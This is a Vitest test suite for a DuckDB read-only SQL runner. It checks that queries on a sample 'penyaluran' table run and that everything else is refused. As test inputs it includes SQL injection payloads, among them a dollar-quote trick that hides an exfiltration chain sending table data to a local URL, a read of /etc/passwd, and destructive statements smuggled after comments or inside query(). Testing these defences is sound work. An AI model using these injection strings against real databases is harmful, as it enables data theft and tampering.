import { beforeAll, describe, expect, it } from 'vitest';
import { runReadOnly, withoutTrailingSemicolons, type ReadOnlyOutcome } from '../../../src/lib/sql/readonly';
import { readTable } from '../../../src/lib/db/values';
import { workbenchDb } from './duckdb';

let env: Awaited<ReturnType<typeof workbenchDb>>;

beforeAll(async () => {
  env = await workbenchDb();
  env.setup("CREATE TABLE penyaluran AS SELECT * FROM (VALUES ('pkh_plus', 3501, 1000.0), ('aspd', 3502, 2000.0)) v(program_id, kode, realisasi_rp)");
  env.setup('CREATE SEQUENCE urut');
  env.lock();
});

const run = (sql: string) => runReadOnly(env.conn, sql);
const rows = (o: ReadOnlyOutcome) => (o.kind === 'rows' ? readTable(o.table, 'display').rows.map((r) => ({ ...r })) : o);
const total = () => Number(env.appQuery('SELECT sum(realisasi_rp)::DOUBLE AS s FROM penyaluran').getChild('s')!.get(0));
const tables = () => env.appQuery('SELECT table_name FROM duckdb_tables() ORDER BY 1').getChild('table_name')!.toArray().join(',');

describe('read-only workbench runner: queries run', () => {
  it.each([
    ['SELECT program_id FROM penyaluran ORDER BY kode', [{ program_id: 'pkh_plus' }, { program_id: 'aspd' }]],
    ['FROM penyaluran SELECT kode ORDER BY kode DESC LIMIT 1', [{ kode: 3502 }]],
    ['WITH x AS (SELECT 2 AS n) SELECT n FROM x', [{ n: 2 }]],
    ['VALUES (1)', [{ col0: 1 }]],
    ["SELECT '?' AS q, 'a;b' AS s -- trailing comment", [{ q: '?', s: 'a;b' }]],
    ['SELECT 1 AS one;  -- done\n ;', [{ one: 1 }]],
    ['(SELECT 1 AS x) UNION ALL (SELECT 2) ORDER BY x', [{ x: 1 }, { x: 2 }]]
  ])('%s', async (sql, expected) => {
    expect(rows(await run(sql))).toEqual(expected);
  });

  it('DESCRIBE, SHOW TABLES, SUMMARIZE and PIVOT are queries too', async () => {
    for (const sql of [
      'DESCRIBE penyaluran',
      'SHOW TABLES',
      'SUMMARIZE penyaluran',
      "PIVOT penyaluran ON program_id IN ('aspd', 'pkh_plus') USING sum(realisasi_rp)"
    ]) {
      const o = await run(sql);
      expect(o.kind, sql).toBe('rows');
    }
  });

  it('repeated column names come back unique (DuckDB renames them in the subquery)', async () => {
    const o = await run('SELECT 1 AS a, 2 AS a, 3 AS "__proto__"');
    expect(o.kind).toBe('rows');
    const { columns, rows: r } = readTable((o as Extract<ReadOnlyOutcome, { kind: 'rows' }>).table, 'display');
    expect(columns).toEqual(['a', 'a_1', '__proto__']);
    expect(r[0].a).toBe(1);
    expect(r[0].a_1).toBe(2);
    expect(Object.getOwnPropertyDescriptor(r[0], '__proto__')?.value).toBe(3);
  });
});

describe('read-only workbench runner: DuckDB refuses everything else', () => {
  const refused = async (sql: string) => {
    const o = await run(sql);
    expect(o.kind, `${sql} → ${JSON.stringify(o).slice(0, 200)}`).toBe('refused');
    return o as Extract<ReadOnlyOutcome, { kind: 'refused' }>;
  };

  it.each([
    'UPDATE penyaluran SET realisasi_rp = realisasi_rp * 10',
    'DELETE FROM penyaluran',
    'DROP TABLE penyaluran',
    'CREATE OR REPLACE TABLE penyaluran AS SELECT 1 AS x',
    'CREATE TEMP TABLE t AS SELECT 1',
    "INSERT INTO penyaluran VALUES ('x', 1, 1)",
    'ALTER TABLE penyaluran RENAME TO p2',
    'WITH c AS (SELECT 1) UPDATE penyaluran SET realisasi_rp = 0',
    'CREATE VIEW v AS SELECT 1',
    'CREATE MACRO m(x) AS x',
    'SET VARIABLE leak = 1',
    'SET threads = 1',
    'RESET threads',
    "ATTACH ':memory:' AS m2",
    'DETACH m2',
    'USE memory',
    'INSTALL httpfs',
    'LOAD httpfs',
    'CALL pragma_version()',
    'PRAGMA version',
    'BEGIN TRANSACTION',
    'COMMIT',
    'ROLLBACK',
    'CHECKPOINT',
    'VACUUM',
    'PREPARE p AS SELECT 1',
    "EXPORT DATABASE 'x'",
    "COPY penyaluran TO 'x.csv'",
    'EXPLAIN ANALYZE UPDATE penyaluran SET realisasi_rp = 0'
  ])('%s is refused and changes nothing', async (sql) => {
    const before = [total(), tables()];
    await refused(sql);
    expect([total(), tables()]).toEqual(before);
  });

  it('a SELECT that would write (nextval) is stopped by the read-only transaction', async () => {
    const o = await refused("SELECT nextval('urut')");
    expect(o.reason).toBe('read_only');
    expect(o.message).toMatch(/read-only/);
  });

  it.each([
    // the exfiltration link: a dollar quote whose tag holds a digit hides two more statements
    "SELECT count(*) FROM penyaluran WHERE $a1$'$a1$ <> $$x$$; SET VARIABLE leak=(SELECT string_agg(program_id, ',') FROM penyaluran); SELECT * FROM read_text($$http://127.0.0.1:9/$$||getvariable($$leak$$)) --'",
    "SELECT count(*) FROM penyaluran WHERE $a1$'$a1$ <> $$x$$; UPDATE penyaluran SET realisasi_rp = realisasi_rp*10; SELECT 1 --'",
    'SELECT 1 --\r; DROP TABLE penyaluran',
    'SELECT 1; SELECT 2',
    "SELECT 'x'; COPY penyaluran TO 'y.csv'"
  ])('two statements are refused by the parser: %s', async (sql) => {
    const before = total();
    const o = await refused(sql);
    expect(o.reason).toBe('multiple');
    expect(o.message).toMatch(/multiple statements/);
    expect(total()).toBe(before);
  });

  it.each([
    'SELECT * FROM "http://127.0.0.1:9/x.csv"',
    "SELECT * FROM 'http://127.0.0.1:9/x.csv'",
    'SELECT * FROM "read_csv"(\'http://127.0.0.1:9/x.csv\')',
    'SELECT * FROM "read_text"(\'http://127.0.0.1:9/x\')',
    'SELECT * FROM "read_blob"(\'/etc/passwd\')',
    'SELECT * FROM "glob"(\'*\')',
    'SELECT * FROM "sniff_csv"(\'http://127.0.0.1:9/x.csv\')',
    'DESCRIBE "http://127.0.0.1:9/x.csv"',
    "SUMMARIZE 'http://127.0.0.1:9/x.csv'",
    'SHOW "http://127.0.0.1:9/x.csv"',
    'TABLE "http://127.0.0.1:9/x.csv"',
    "PIVOT 'http://127.0.0.1:9/x.csv' ON a IN (1, 2) USING count(*)",
    "UNPIVOT 'http://127.0.0.1:9/x.csv' ON a INTO NAME k VALUE v",
    "FROM read_csv('x.csv')",
    "SELECT * FROM read_csv('/data/penerima.csv')",
    "SELECT * FROM query('SELECT * FROM read_text(''http://127.0.0.1:9/q'')')",
    'SELECT * FROM query_table(\'"http://127.0.0.1:9/x.csv"\')'
  ])('files and URLs are refused by the engine: %s', async (sql) => {
    const o = await refused(sql);
    expect(o.reason, o.message).toBe('external');
    expect(o.message).toMatch(/disabled by configuration/);
  });
});

describe("trailing semicolons are cut where DuckDB's lexer says", () => {
  it.each([
    ['SELECT 1;', 'SELECT 1'],
    ['SELECT 1; -- x\n;', 'SELECT 1'],
    ["SELECT ';' AS s", "SELECT ';' AS s"],
    ['SELECT $$;$$ ; /* c */', 'SELECT $$;$$ ']
  ])('%j → %j', async (sql, expected) => {
    expect(await withoutTrailingSemicolons(env.conn, sql)).toBe(expected);
  });
});

describe('second round: SQL that reaches other statements from inside a SELECT', () => {
  it.each([
    "SELECT * FROM query('COMMIT')",
    "SELECT * FROM query('UPDATE penyaluran SET realisasi_rp = 0')",
    "SELECT * FROM query('SELECT 1'), query('DELETE FROM penyaluran')",
    "SELECT 1 FROM penyaluran WHERE kode IN (SELECT 1 FROM query('DROP TABLE penyaluran'))",
    "SUMMARIZE (SELECT * FROM query('DROP TABLE penyaluran'))",
    "DESCRIBE (SELECT * FROM query('CREATE TABLE x AS SELECT 1'))",
    "SELECT * FROM query('SET VARIABLE x = 1')",
    "SELECT * FROM query('ATTACH '':memory:'' AS q')",
    "SELECT * FROM query('INSTALL httpfs')",
    'SELECT * FROM (UPDATE penyaluran SET realisasi_rp = 9 RETURNING *)',
    'SELECT * FROM force_checkpoint()',
    "FROM (SELECT 1) t, LATERAL (SELECT nextval('urut'))"
  ])('%s runs nothing but a read', async (sql) => {
    const before = [total(), tables()];
    const o = await run(sql);
    expect(o.kind, sql).not.toBe('rows');
    expect([total(), tables()]).toEqual(before);
    expect(env.appQuery('SELECT count(*)::INT AS n FROM duckdb_databases()').getChild('n')!.get(0)).toBe(3); // memory, system, temp
  });
});
